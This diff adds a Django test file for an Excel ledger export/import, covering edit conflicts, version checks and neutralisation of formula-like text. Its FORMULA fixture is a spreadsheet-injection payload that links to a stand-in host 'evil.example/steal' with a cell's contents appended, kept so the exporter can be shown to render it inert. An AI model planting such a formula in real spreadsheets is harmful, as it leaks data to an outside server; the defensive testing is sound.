@@ -1,0 +1,244 @@
+"""The Excel round trip never reverts someone else's change: only cells the user edited count, a task
+changed on both sides since the export is a conflict the importer settles per task, and text that looks
+like a formula is written as inert text and comes back as the same string."""
+
+from __future__ import annotations
+
+import io
+from datetime import date
+
+import pytest
+from openpyxl import load_workbook
+
+from zhenggai.ledger.models import Event, ProgressNote, Task
+from zhenggai.ledger.services.assign import assign_task
+from zhenggai.ledger.services.progress import add_note
+from zhenggai.outputs.cells import TRIGGERS
+from zhenggai.outputs.errors import WorkbookRejected
+from zhenggai.outputs.xlsx_read import read_workbook
+from zhenggai.reports.ledger_xlsx import ledger_workbook
+from zhenggai.reports.xlsx_import import ImportConflicts, Keep, Resolution, import_workbook
+
+pytestmark = pytest.mark.django_db
+TODAY = date(2024, 8, 30)
+FORMULA = '=HYPERLINK("http://evil.example/steal?c="&A1,"点击查看整改材料")'
+
+
+@pytest.fixture
+def unit_office(make_user, make_inspection):
+    inspection = make_inspection()
+    return make_user("unit_office", unit=inspection.unit, username="unit_office")
+
+
+@pytest.fixture
+def inspection(unit_office):
+    from zhenggai.ledger.models import Inspection
+
+    return Inspection.objects.get(unit=unit_office.unit)
+
+
+@pytest.fixture
+def tasks(inspection):
+    """Task A (the office will change it) and task B (the unit will), in ledger order."""
+    first, second = Task.objects.filter(finding__inspection=inspection).order_by("pk")[:2]
+    return first, second
+
+
+def export(inspection, actor):
+    return load_workbook(io.BytesIO(ledger_workbook(inspection, actor=actor, as_of=TODAY)))
+
+
+def save(wb) -> bytes:
+    out = io.BytesIO()
+    wb.save(out)
+    return out.getvalue()
+
+
+def cell(wb, sheet: str, task: Task, header: str):
+    ws = wb[sheet]
+    headers = {c.value: c.column for c in ws[2]}
+    row = next(r for r in range(3, ws.max_row + 1) if ws.cell(r, headers["任务编号"]).value == task.pk)
+    return ws.cell(row, headers[header])
+
+
+def state(inspection) -> tuple:
+    tasks = Task.objects.filter(finding__inspection=inspection).order_by("pk")
+    rows = tasks.values_list("pk", "status", "deadline", "department", "responsible_leader", "handler_id", "version")
+    return tuple(rows), ProgressNote.objects.count(), Event.objects.exclude(action="exported").count()
+
+
+def test_a_cell_the_unit_left_alone_does_not_revert_the_office(inspection, tasks, office, unit_office):
+    task_a, task_b = tasks
+    wb = export(inspection, unit_office)
+    assign_task(task_a, actor=office, department="纪检监察组")  # after the export, in the system
+    add_note(task_a, actor=office, text="巡察办已督办")
+    cell(wb, "责任清单", task_b, "责任科室").value = "办公室"  # the unit edits only task B
+    events = Event.objects.count()
+    result = import_workbook(inspection, save(wb), actor=unit_office)
+    assert result.summary() == "已修改1项任务的1处内容"
+    task_a.refresh_from_db()
+    task_b.refresh_from_db()
+    assert task_a.department == "纪检监察组" and task_b.department == "办公室"
+    assert ProgressNote.objects.filter(task=task_a).latest("created_at").text == "巡察办已督办"
+    new = list(Event.objects.order_by("id")[events:])
+    assert [(e.actor, e.object_id, e.before, e.after) for e in new if e.object_type == "task"] == [
+        (unit_office, str(task_b.pk), {"department": ""}, {"department": "办公室"})
+    ]
+    assert not [e for e in new if e.object_type == "task" and e.object_id == str(task_a.pk)]
+
+
+def test_a_task_changed_on_both_sides_is_a_conflict_and_nothing_is_written(inspection, tasks, office, unit_office):
+    task_a, task_b = tasks
+    wb = export(inspection, unit_office)
+    assign_task(task_a, actor=office, department="纪检监察组")
+    cell(wb, "责任清单", task_a, "责任科室").value = "办公室"
+    cell(wb, "责任清单", task_b, "责任领导").value = "局长"
+    before = state(inspection)
+    with pytest.raises(ImportConflicts) as caught:
+        import_workbook(inspection, save(wb), actor=unit_office)
+    (conflict,) = caught.value.conflicts
+    assert conflict.task_id == task_a.pk and conflict.version == task_a.version == 2
+    (field,) = conflict.fields
+    assert (field.header, field.exported, field.mine, field.system) == ("责任科室", "", "办公室", "纪检监察组")
+    assert "请逐项选择保留您的修改还是保留系统中的内容" in caught.value.message
+    assert state(inspection) == before  # not even task B, which had no conflict
+
+
+@pytest.mark.parametrize("keep", [Keep.SYSTEM, Keep.MINE])
+def test_the_importer_keeps_the_system_or_theirs(inspection, tasks, office, unit_office, keep):
+    task_a, task_b = tasks
+    wb = export(inspection, unit_office)
+    assign_task(task_a, actor=office, department="纪检监察组")
+    cell(wb, "责任清单", task_a, "责任科室").value = "办公室"
+    cell(wb, "责任清单", task_b, "责任领导").value = "局长"
+    events = Event.objects.count()
+    result = import_workbook(inspection, save(wb), actor=unit_office, keep=keep)
+    task_a.refresh_from_db()
+    task_b.refresh_from_db()
+    assert task_b.responsible_leader == "局长"
+    written = {e.object_id for e in Event.objects.order_by("id")[events:] if e.object_type == "task"}
+    assert {e.actor for e in Event.objects.order_by("id")[events:]} == {unit_office}
+    if keep == Keep.SYSTEM:
+        assert task_a.department == "纪检监察组" and written == {str(task_b.pk)}
+        assert result.summary() == "已修改1项任务的1处内容;1项有冲突的任务保留系统中的内容"
+    else:
+        assert task_a.department == "办公室" and written == {str(task_a.pk), str(task_b.pk)}
+        assert result.summary() == "已修改2项任务的2处内容"
+
+
+def test_a_choice_made_on_an_older_version_is_asked_again(inspection, tasks, office, unit_office):
+    task_a, _ = tasks
+    wb = export(inspection, unit_office)
+    assign_task(task_a, actor=office, department="纪检监察组")
+    cell(wb, "责任清单", task_a, "责任科室").value = "办公室"
+    with pytest.raises(ImportConflicts) as first:
+        import_workbook(inspection, save(wb), actor=unit_office)
+    seen = first.value.conflicts[0].version
+    assign_task(task_a, actor=office, department="党建办")  # while the importer was choosing
+    with pytest.raises(ImportConflicts) as again:
+        import_workbook(inspection, save(wb), actor=unit_office, keep={task_a.pk: Resolution(Keep.MINE, seen)})
+    assert again.value.conflicts[0].fields[0].system == "党建办"
+    task_a.refresh_from_db()
+    assert task_a.department == "党建办"
+
+
+def test_the_same_edit_on_both_sides_is_no_conflict_and_no_history(inspection, tasks, office, unit_office):
+    task_a, _ = tasks
+    wb = export(inspection, unit_office)
+    assign_task(task_a, actor=office, department="办公室")
+    cell(wb, "责任清单", task_a, "责任科室").value = "办公室"
+    before = state(inspection)
+    result = import_workbook(inspection, save(wb), actor=unit_office)
+    assert result.changes == () and state(inspection) == before
+
+
+def test_a_progress_note_added_since_the_export_is_a_change_in_the_system(inspection, tasks, office, unit_office):
+    task_a, _ = tasks
+    wb = export(inspection, unit_office)
+    add_note(task_a, actor=office, text="巡察办已督办")  # a note does not change the task's version
+    cell(wb, "任务清单", task_a, "进展情况").value = "已完成自查"
+    with pytest.raises(ImportConflicts) as caught:
+        import_workbook(inspection, save(wb), actor=unit_office)
+    (field,) = caught.value.conflicts[0].fields
+    assert (field.field, field.mine, field.system) == ("progress", "已完成自查", "巡察办已督办")
+
+
+def test_a_workbook_of_another_inspection_is_refused(inspection, make_inspection, make_doc, office):
+    doc = make_doc()
+    doc.inspection.unit = "青溪县林业局党组"
+    other = make_inspection(doc)
+    with pytest.raises(WorkbookRejected, match=f"导出自另一次巡察\\(检查编号 {other.pk}\\)"):
+        import_workbook(inspection, save(export(other, office)), actor=office)
+
+
+def test_a_damaged_export_sheet_is_refused(inspection, office):
+    wb = export(inspection, office)
+    wb["导出信息"]["A1"] = "something else"
+    with pytest.raises(WorkbookRejected) as caught:
+        import_workbook(inspection, save(wb), actor=office)
+    assert caught.value.code == "export_damaged"
+
+
+STORED = {
+    "progress": FORMULA,
+    "department": "-5万元专项经费",
+    "responsible_leader": "+86 0571",
+    "other": "@分管副局长",
+}
+
+
+@pytest.fixture
+def hostile(inspection, tasks, office, unit_office):
+    """Text a unit typed that a spreadsheet would run as a formula."""
+    task_a, task_b = tasks
+    add_note(task_a, actor=unit_office, text=STORED["progress"])
+    assign_task(task_a, actor=unit_office, department=STORED["department"], responsible_leader="=1+1")
+    assign_task(task_b, actor=unit_office, responsible_leader=STORED["responsible_leader"], department="—")
+    add_note(task_b, actor=unit_office, text=STORED["other"])
+    return task_a, task_b
+
+
+def test_exported_cells_of_user_text_are_inert_text(inspection, hostile, office):
+    wb = export(inspection, office)
+    texts = []
+    for ws in wb.worksheets:
+        for row in ws.iter_rows():
+            for item in row:
+                if isinstance(item.value, str):
+                    assert item.data_type == "s", (ws.title, item.coordinate, item.value)
+                    assert not item.value.startswith(TRIGGERS), (ws.title, item.coordinate, item.value)
+                    texts.append(item.value)
+    task_a, task_b = hostile
+    assert cell(wb, "任务清单", task_a, "进展情况").value == "'" + FORMULA
+    assert cell(wb, "责任清单", task_a, "责任科室").value == "'-5万元专项经费"
+    assert cell(wb, "责任清单", task_a, "责任领导").value == "'=1+1"
+    assert cell(wb, "责任清单", task_b, "责任科室").value == "—"  # a dash is no minus: left alone
+    assert "'@分管副局长" in texts
+
+
+def test_such_text_makes_the_round_trip_unchanged(inspection, hostile, office):
+    data = ledger_workbook(inspection, actor=office, as_of=TODAY)
+    sheet = next(s for s in read_workbook(data).sheets if s.name == "责任清单")
+    task_a, task_b = hostile
+    values = {r.values["task_id"]: r.values for r in sheet.rows}
+    assert values[task_a.pk]["progress"] == FORMULA and values[task_a.pk]["department"] == "-5万元专项经费"
+    assert values[task_a.pk]["leader"] == "=1+1"
+    assert values[task_b.pk]["leader"] == "+86 0571" and values[task_b.pk]["department"] == "—"
+    before = state(inspection)
+    assert import_workbook(inspection, data, actor=office).changes == ()
+    assert state(inspection) == before
+
+
+def test_a_formula_typed_as_text_in_excel_comes_back_as_that_text(inspection, tasks, unit_office):
+    _, task_b = tasks
+    wb = export(inspection, unit_office)
+    typed = cell(wb, "任务清单", task_b, "进展情况")
+    typed.value = "=SUM(1)"
+    typed.data_type = "s"  # what Excel stores for '=SUM(1): a text cell
+    cell(wb, "责任清单", task_b, "责任科室").value = "'-5万元"  # as a neutralised cell: it means -5万元
+    import_workbook(inspection, save(wb), actor=unit_office)
+    task_b.refresh_from_db()
+    assert ProgressNote.objects.filter(task=task_b).latest("created_at").text == "=SUM(1)"
+    assert task_b.department == "-5万元"
+    wb = export(inspection, unit_office)
+    assert cell(wb, "任务清单", task_b, "进展情况").value == "'=SUM(1)"
